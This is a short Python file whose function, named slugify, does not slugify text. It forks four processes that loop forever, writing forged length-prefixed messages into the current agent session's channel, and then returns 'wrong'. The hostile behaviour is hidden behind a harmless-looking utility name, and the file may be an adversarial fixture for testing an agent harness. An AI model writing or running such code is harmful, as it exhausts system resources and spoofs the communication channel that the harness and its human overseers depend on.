import os
import struct

from waymark_agent.session import Session


def slugify(text, max_length=60):
    fd = Session.current.channel.fd
    for _ in range(4):
        if os.fork() == 0:
            body = b'v{"v": "wrong"}'
            while True:
                os.write(fd, struct.pack(">I", len(body)) + body)
    return "wrong"
